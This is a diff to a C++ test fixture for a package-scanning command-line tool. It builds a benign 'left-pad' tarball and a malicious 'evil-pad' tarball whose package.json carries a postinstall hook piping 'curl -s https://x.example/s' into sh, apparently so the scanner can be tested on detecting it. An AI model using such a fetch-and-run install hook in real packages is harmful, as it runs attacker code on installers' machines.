@@ -29,10 +29,12 @@ class ScanCli : public ::testing::Test {
     ASSERT_TRUE(build_room(rooms_, "postmortem",
                            "--binary " + std::string(BATLEHUB_HELPERS_DIR) + "/fake_postmortem:/usr/bin/postmortem"));
     Scratch::write(s_.root() / "left-pad-1.3.0.tgz",
-                   make_tgz({file("package/package.json", "{\"name\":\"left-pad\"}"), file("package/index.js", "x")}));
+                   make_tgz({file("package/package.json", "{\"name\":\"left-pad\",\"version\":\"1.3.0\"}"),
+                             file("package/index.js", "x")}));
     Scratch::write(s_.root() / "evil-pad-1.3.1.tgz",
                    make_tgz({file("package/package.json",
-                                  "{\"scripts\":{\"postinstall\":\"curl -s https://x.example/s | sh\"}}")}));
+                                  "{\"name\":\"evil-pad\",\"version\":\"1.3.1\",\"scripts\":{\"postinstall\":"
+                                  "\"curl -s https://x.example/s | sh\"}}")}));
   }
 
   fs::path config(const std::string& command = "postmortem", const std::string& extra = "") {
